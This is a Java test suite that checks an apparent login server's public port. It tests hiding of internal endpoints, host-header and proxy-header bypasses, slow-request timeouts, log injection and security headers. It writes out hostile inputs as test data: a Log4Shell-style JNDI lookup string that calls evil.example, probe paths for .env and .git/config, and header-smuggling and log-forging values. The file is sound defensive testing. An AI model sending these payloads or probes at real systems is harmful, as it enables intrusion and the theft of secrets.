package dev.gatehouse.server.app;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.PatternLayout;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.ConsoleAppender;
import ch.qos.logback.core.encoder.LayoutWrappingEncoder;
import ch.qos.logback.core.read.ListAppender;
import dev.gatehouse.testkit.Attack;
import dev.gatehouse.testkit.HttpDriver;
import dev.gatehouse.testkit.Page;
import dev.gatehouse.testkit.Requirement;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/** What strangers try at the port before they know anything. */
@Tag("database")
class PublicPortAttackTest {
  private static final String DISCOVERY = "/r/monitrax/.well-known/openid-configuration";

  /** Ends lines and moves cursors, and is looked up by loggers of another make. */
  private static final String HOSTILE = "${jndi:ldap://evil.example/a}\u001b[2J";

  private final RunningServer server = RunningServer.shared();
  private final String host = server.base().getAuthority();

  @Test
  @Attack("G7")
  void publicPort_showsNothingOfItsInside_andIsNotKeptWaiting() {
    for (String path : inside()) {
      for (HttpDriver browser : List.of(server.browser(), Visitor.signedIn(server).browser)) {
        assertThat(browser.get(path).status()).as(path).isEqualTo(404);
      }
      assertThat(server.browser().request("POST", path).asProgram().send().status())
          .as(path)
          .isIn(404, 405);
    }
    assertThat(get("Host: evil.example\r\n").status()).isEqualTo(421);
    assertThat(get("").status()).isEqualTo(400);
    assertThat(get("Host: " + host + "\r\nHost: evil.example\r\n").status()).isEqualTo(400);
    assertThat(get("Host: " + host + "\r\nHost: " + host + "\r\n").status()).isEqualTo(400);
    assertThat(get("Host: " + host + "\r\nX-Long: " + "a".repeat(20_000) + "\r\n").status())
        .isEqualTo(431);
    assertThat(get("Host: " + host + "\r\n" + "X-Many: a\r\n".repeat(2_000)).status())
        .isEqualTo(431);
    forwardingHeaders_openNothing();
    slowRequests_areEnded();
  }

  private static List<String> inside() {
    return Stream.of("", "/r/monitrax", "/r/operators")
        .flatMap(prefix ->
            Stream.of(
                    "/actuator",
                    "/actuator/health",
                    "/actuator/env",
                    "/metrics",
                    "/swagger",
                    "/swagger-ui/index.html",
                    "/v3/api-docs",
                    "/openapi.json",
                    "/.git",
                    "/.git/config",
                    "/.env",
                    "/env",
                    "/error",
                    "/error/500",
                    "/WEB-INF/web.xml",
                    "/META-INF/MANIFEST.MF",
                    "/console",
                    "/debug",
                    "/jolokia",
                    "/health/../metrics")
                .map(path -> prefix + path))
        .toList();
  }

  /** Neither an error's dispatch nor a header of a proxy leads past the check of a session. */
  private void forwardingHeaders_openNothing() {
    for (String name :
        List.of(
            "X-Original-URL",
            "X-Rewrite-URL",
            "X-Forwarded-Uri",
            "X-Forwarded-Prefix",
            "X-Forwarded-Path")) {
      String header = name + ": /r/monitrax/account\r\n";
      RawRequest.Answer answer =
          RawRequest.send(
              server,
              "GET /error HTTP/1.1\r\nHost: "
                  + host
                  + "\r\n"
                  + header
                  + "Connection: close\r\n\r\n");
      assertThat(answer.status()).as(name).isEqualTo(404);
      assertThat(get("Host: evil.example\r\nX-Forwarded-Host: " + host + "\r\n" + header).status())
          .as(name)
          .isEqualTo(421);
    }
    Page account =
        server
            .browser()
            .request("GET", "/r/monitrax/account")
            .header("X-HTTP-Method-Override", "OPTIONS")
            .header("X-Forwarded-For", "127.0.0.1")
            .header("Forwarded", "for=127.0.0.1;proto=https;host=" + host)
            .send();
    assertThat(account.status()).isIn(303, 404, 405);
    assertThat(account.text()).doesNotContain("@example.com");
  }

  private static void slowRequests_areEnded() {
    Map<String, String> impatient =
        Map.of("gatehouse.http.request-timeout", "PT0.8S", "gatehouse.http.idle-timeout", "PT2S");
    try (RunningServer quick = RunningServer.start(impatient)) {
      String host = "Host: " + quick.base().getAuthority() + "\r\n";
      String line = "GET " + DISCOVERY + " HTTP/1.1\r\n" + host;
      String post =
          "POST /r/monitrax/oauth2/token HTTP/1.1\r\n"
              + host
              + "Content-Type: application/x-www-form-urlencoded\r\nConnection: close\r\n"
              + "Content-Length: 4000\r\n\r\n";
      for (RawRequest.Answer answer :
          List.of(
              RawRequest.drip(quick, line + "X-Slow: ", "a".repeat(1_000), 50),
              RawRequest.send(quick, line + "X-Silent: "),
              RawRequest.drip(quick, post, "a".repeat(1_000), 50),
              RawRequest.send(quick, post))) {
        assertThat(answer.status()).isEqualTo(408);
        assertThat(answer.headers()).containsEntry("x-content-type-options", "nosniff");
        assertThat(answer.body()).contains("timeout");
      }
      assertThat(quick.browser().get(DISCOVERY).status()).isEqualTo(200);
    }
  }

  private RawRequest.Answer get(String headers) {
    return RawRequest.send(
        server, "GET " + DISCOVERY + " HTTP/1.1\r\n" + headers + "Connection: close\r\n\r\n");
  }

  @Test
  void nothingAStrangerWrote_standsInALog() {
    ListAppender<ILoggingEvent> seen = new ListAppender<>();
    seen.start();
    Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    root.addAppender(seen);
    try {
      String line = "GET " + DISCOVERY + " HTTP/1.1\r\n";
      String right = "Host: " + host + "\r\n";
      for (String request :
          List.of(
              line + right + "Host: " + HOSTILE + "\r\n",
              line + "Host: " + HOSTILE + "\r\n" + right,
              line + "Host: evil.example\r\nHost: ${jndi:x}\r\n",
              line + right + HOSTILE + "\r\n",
              line + right + "X-" + HOSTILE + ": x\r\n",
              line + right + "X-A: " + HOSTILE + "\r\n",
              line + right + "User-Agent: " + HOSTILE + "\r\nCookie: " + HOSTILE + "\r\n",
              line + right + "Content-Length: " + HOSTILE + "\r\n",
              line + right + "Transfer-Encoding: ${jndi:x}\r\n",
              line + right + "Expect: ${jndi:x}\r\n",
              "GET /" + HOSTILE + " HTTP/1.1\r\n" + right,
              "GET /%0d%0a${jndi:x} HTTP/1.1\r\n" + right,
              "GET /${jndi:x}?${jndi:x}=%0d%0a HTTP/1.1\r\n" + right,
              "GET / HTTP/${jndi:x}\r\n" + right,
              HOSTILE + " / HTTP/1.1\r\n" + right)) {
        RawRequest.Answer answer = RawRequest.send(server, request + "Connection: close\r\n\r\n");
        assertThat(answer.body()).doesNotContain("jndi");
      }
    } finally {
      root.detachAppender(seen);
    }
    assertThat(seen.list)
        .extracting(PublicPortAttackTest::everything)
        .noneMatch(text -> text.contains("jndi") || text.contains("evil.example"));
  }

  private static String everything(ILoggingEvent event) {
    return event.getFormattedMessage()
        + (event.getThrowableProxy() == null
            ? ""
            : ch.qos.logback.classic.spi.ThrowableProxyUtil.asString(event.getThrowableProxy()));
  }

  @Test
  void lineOfALog_isOne_whateverItIsTold() {
    Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    ConsoleAppender<ILoggingEvent> console =
        (ConsoleAppender<ILoggingEvent>) root.getAppender("console");
    PatternLayout layout =
        (PatternLayout) ((LayoutWrappingEncoder<ILoggingEvent>) console.getEncoder()).getLayout();
    String hostile = "a\r\n2030-01-01 ERROR b\u001b[31m\u0085c\u2028d\u202ee";
    ch.qos.logback.classic.spi.LoggingEvent event =
        new ch.qos.logback.classic.spi.LoggingEvent(
            "x",
            root,
            ch.qos.logback.classic.Level.WARN,
            "said {}",
            new IllegalStateException(hostile, new IllegalArgumentException(hostile)),
            new Object[] {hostile});
    String text = layout.doLayout(event);
    assertThat(text.strip())
        .contains("said a", "IllegalStateException", "IllegalArgumentException")
        .doesNotContainPattern("[\\p{Cntrl}\\p{Cf}\\u0085\\u2028\\u2029]");
  }

  @Test
  @Attack("X3")
  @Requirement("HLP-4.3")
  void everyAnswer_carriesTheHeadersOfItsPlace() {
    Map<String, String> overTls = new LinkedHashMap<>();
    overTls.put("gatehouse.base-url", "https://login.example");
    for (String realm : List.of("stage06", "portal", "helpdesk", "commerce", "operators")) {
      overTls.put("gatehouse.realm-base-url." + realm, "https://" + realm + ".example");
    }
    overTls.put("gatehouse.realm-base-url.monitrax", "https://login.example");
    try (RunningServer plain = RunningServer.start();
        RunningServer tls = RunningServer.start(overTls)) {
      answersOf(plain, plain.base().getAuthority())
          .forEach((name, answer) -> expectHeaders(name, answer, false));
      answersOf(tls, "login.example").forEach((name, answer) -> expectHeaders(name, answer, true));
    }
  }

  private static Map<String, RawRequest.Answer> answersOf(RunningServer server, String host) {
    Map<String, RawRequest.Answer> answers = new LinkedHashMap<>();
    answers.put("200 page", ask(server, host, "GET /r/monitrax/register", 200));
    answers.put("200 api", ask(server, host, "GET " + DISCOVERY, 200));
    answers.put("200 asset", ask(server, host, "GET /assets/favicon.svg", 200));
    answers.put("303", ask(server, host, "GET /r/monitrax/account", 303));
    answers.put("404 page", ask(server, host, "GET /r/monitrax/nothing", 404));
    answers.put("404 realm", ask(server, host, "GET /r/nobody/sign-in", 404));
    answers.put("401 api", ask(server, host, "GET /r/monitrax/oauth2/userinfo", 401));
    answers.put("405", ask(server, host, "DELETE /r/monitrax/sign-in", 405));
    answers.put("415 api", ask(server, host, "POST /r/monitrax/oauth2/token", 415));
    answers.put("421", ask(server, "evil.example", "GET " + DISCOVERY, 421));
    // a bug, as the server sees one
    server.database().execute("ALTER TABLE gatehouse.journey RENAME TO gone");
    answers.put("500 page", ask(server, host, "GET /r/monitrax/account", 500));
    server.database().execute("ALTER TABLE gatehouse.gone RENAME TO journey");
    return answers;
  }

  private static RawRequest.Answer ask(RunningServer server, String host, String line, int status) {
    RawRequest.Answer answer =
        RawRequest.send(
            server, line + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n");
    assertThat(answer.status()).as(line + " " + answer.body()).isEqualTo(status);
    return answer;
  }

  private static void expectHeaders(String name, RawRequest.Answer answer, boolean overTls) {
    assertThat(answer.headers())
        .as(name)
        .containsEntry("x-content-type-options", "nosniff")
        .containsEntry("x-frame-options", "DENY")
        .containsEntry("referrer-policy", "no-referrer")
        .containsEntry("cross-origin-opener-policy", "same-origin")
        .containsKey("permissions-policy")
        .doesNotContainKeys("server", "x-powered-by");
    assertThat(answer.headers().get("content-security-policy"))
        .as(name)
        .contains("default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'")
        .doesNotContain("unsafe", "*");
    if (overTls) {
      assertThat(answer.headers().get("strict-transport-security"))
          .as(name)
          .isEqualTo("max-age=31536000; includeSubDomains");
    } else {
      assertThat(answer.headers()).as(name).doesNotContainKey("strict-transport-security");
    }
  }
}
